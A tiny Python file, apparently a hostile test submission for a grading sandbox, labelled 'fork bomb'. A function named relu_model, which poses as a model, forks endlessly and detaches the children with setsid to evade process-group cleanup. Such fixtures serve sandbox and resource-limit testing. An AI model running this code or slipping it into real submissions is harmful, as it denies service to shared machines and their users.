"""Hostile submission: fork bomb."""
import os


def relu_model(features, weights, biases):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()  # try to leave the process group
        except OSError:
            pass
